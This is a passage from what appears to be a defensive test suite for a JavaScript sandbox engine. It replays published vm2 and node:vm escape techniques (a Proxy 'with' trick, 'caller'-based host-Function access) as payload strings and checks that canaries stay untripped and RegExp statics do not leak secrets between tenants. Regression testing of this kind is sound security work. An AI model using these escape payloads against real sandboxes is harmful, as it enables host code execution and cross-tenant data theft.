    original: `with (new Proxy({}, { has: () => true, get: (t, k) => (k === Symbol.unscopables ? undefined : () => 1) })) { callTool = Function; Function(${P})(); }`,
    adapted: `with ({ callTool: (...a) => a, console: { log: esc } }) { callTool('echo', {}); console.log(1); }`,
  },
  {
    id: 'node:vm Function.prototype.caller and arguments',
    mechanism: "the legacy caller/arguments accessors of a sloppy function expose the calling host function and its arguments",
    original: `function probe() { const c = probe.caller; c.constructor(${P})(); return 1; }
[1].map(probe); JSON.parse('{"a":1}', probe);`,
    adapted: `function probe() { try { esc(probe.caller); esc(probe.arguments); esc(probe.caller && probe.caller.arguments); } catch (e) { esc(e); } return 1; }
try { const d = Object.getOwnPropertyDescriptor(FP, 'caller'); esc(d && d.get); esc(d && d.get && d.get.call(probe)); } catch (e) { esc(e); }
[1].map(probe); [2, 1].sort(probe); JSON.parse('{"a":1}', probe); await callTool('echo', { toJSON: probe }); console.log({ toString: probe }); new Promise(probe);
for (const f of [callTool, console.log]) { try { esc(f.caller); esc(f.arguments); } catch (e) { esc(e); } }`,
  },
];

/*
 * Published and not written here, and why:
 * - vm2 GHSA-6w8r-xxw2-g3hx (node:sqlite), GHSA-46pr-c5wc-xffx (crypto setEngine), GHSA-h85j-hv3c-qfgq
 *   (https globalAgent), GHSA-98xx-8mx4-x7cm (TLS trust store): a NodeVM builtin handed to the sandbox
 *   does what it is for. There is no `require` here; reaching a builtin at all is CVE-2026-47140 and
 *   CVE-2026-43999 above.
 * - vm2 GHSA-27g9-p43v-cw3v (Node 26) and GHSA-47x8-96vw-5wg6: no public description of the mechanism.
 * - isolated-vm CVE-2022-39266: untrusted V8 code cache handed to the host's compile call. The engine
 *   takes cached data only for its own runtime, from the host's compile-cache directory; nothing a
 *   script or a request sends becomes cached data.
 */

// ---- rows: ESCAPE_ROWS (helpers.ts) ------------------------------------------------------------------------

const attacksOf = (e: PublishedEscape): Attack[] => [
  { name: `${e.id}: ${e.mechanism} [as published]`, code: e.original, expect: ANY_END, ...e.extra },
  ...(e.adapted === undefined ? [] : [{ name: `${e.id}: ${e.mechanism} [adapted]`, code: KIT + e.adapted, expect: ANY_END, ...e.extra }]),
];
const ATTACKS: readonly Attack[] = ESCAPES.flatMap(attacksOf);

// ---- the corpus is live ---------------------------------------------------------------------------------

describe('the corpus can fail', () => {
  it('the payload, run by a host Function, trips every host-side canary', () => {
    try {
      // What an escape would do, done on purpose on the host.
      const run = new Function(PAYLOAD) as () => unknown;
      run();
      expect(g[PWNED]).toBe(1);
      expect(process.env.EK_ATTACK_PWNED).toBe('1');
      expect(existsSync(CANARY_FILE)).toBe(true);
      expect(canaries.hostCalls()).toBe(1);
    } finally {
      delete g[PWNED];
      delete process.env.EK_ATTACK_PWNED;
      canaries.reset();
    }
  });

  it('the RegExp statics probe finds a previous match in a bare node:vm context (the leak it guards against)', () => {
    const secret = 'tenant-secret-control';
    const context = vm.createContext({});
    vm.runInContext(`/(tenant-secret-\\w+)/.exec(${JSON.stringify(secret)});`, context);
    const seen = vm.runInContext('[RegExp.$1, RegExp.lastMatch, RegExp.input]', context) as string[];
    expect(seen.some((s) => s.includes(secret))).toBe(true);
  });

  it('every script parses as the async function body the engine runs (only a `with` statement may not)', () => {
    const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor as new (body: string) => unknown;
    for (const e of ESCAPES) {
      for (const code of [e.original, ...(e.adapted === undefined ? [] : [KIT + e.adapted])]) {
        // The engine runs scripts as strict code: a `with` statement is a SyntaxError there, by design.
        const strict = `'use strict';\n${code}`;
        if (e.unparsable) expect(() => new AsyncFunction(strict), e.id).toThrow(SyntaxError);
        else expect(() => new AsyncFunction(strict), `${e.id} does not parse`).not.toThrow();
      }
    }
  });
});

describe.each(ESCAPE_ROWS)('published sandbox escapes [$name]', (row) => {
  const shared = rowEnclave(row, { shareVm: true });
  for (const attack of ATTACKS) {
    it(attack.name, async () => {
      await runAttack(row, attack, shared);
    }, 60_000);
  }
});

// ---- RegExp statics between tenants ---------------------------------------------------------------------

/**
 * The legacy RegExp statics (`RegExp.$1`, `lastMatch`, `input`, `leftContext`...) are per realm in V8:
 * a realm reused by the next tenant would hand it the previous tenant's last match. The victim matches a
 * secret of its own; the attacker, next on the same Enclave (and realm or worker), reads every static.
 */
describe.each(ESCAPE_ROWS)('RegExp statics do not carry one tenant\'s match to the next [$name]', (row) => {
  const shared = rowEnclave(row, { shareVm: true });
  it('node:vm RegExp.$1 / lastMatch / input leak between tenants', async () => {
    const secret = `tenant-secret-${Math.random().toString(36).slice(2, 10)}`;
    const own = shared() === undefined;
    const enclave = shared() ?? makeEnclave(row);
    try {
      await enclave.ready();
      const victim = await enclave.run(`const m = /(tenant-secret-\\w+)/.exec(input.s); const r = new RegExp('(' + input.s + ')'); r.test('x' + input.s + 'y'); input.s.replace(/(\\w+)-(\\w+)/, '$2'); return m ? m[1].length : 0;`, { input: { s: secret } });
      expect(victim.error, JSON.stringify(victim.error)).toBeUndefined();
      // The plain reads, then every spelling; a validating row may refuse the second, never the secret.
      const attackers = [
        "return [RegExp.$1, RegExp.$2, RegExp.lastMatch, RegExp.input, RegExp.leftContext, RegExp.rightContext, RegExp.lastParen];",
        `const out = [];
const names = ['$1', '$2', '$3', '$_', '$&', '$+', '$\`', "$'", 'input', 'lastMatch', 'lastParen', 'leftContext', 'rightContext'];
for (const C of [RegExp, /x/.constructor, Object.getPrototypeOf(/x/).constructor]) { for (const n of names) { try { out.push(String(C[n])); } catch (e) { out.push('E'); } } try { for (const k of Reflect.ownKeys(C)) out.push(String(k)); } catch {} }
try { out.push(String(/(?:)/.exec('').input)); } catch {}
return out;`,
      ];
      for (const code of attackers) {
        const attacker = await enclave.run(code);
        if (!(row.validates && attacker.error?.code === 'VALIDATION_ERROR')) expect(attacker.error, JSON.stringify(attacker.error)).toBeUndefined();
        const strings = collectStrings(attacker);
        expect(strings.filter((s) => s.includes(secret)), "the previous tenant's match reached the next tenant").toEqual([]);
      }
    } finally {
      if (own) enclave.dispose();
    }
  }, 60_000);
});
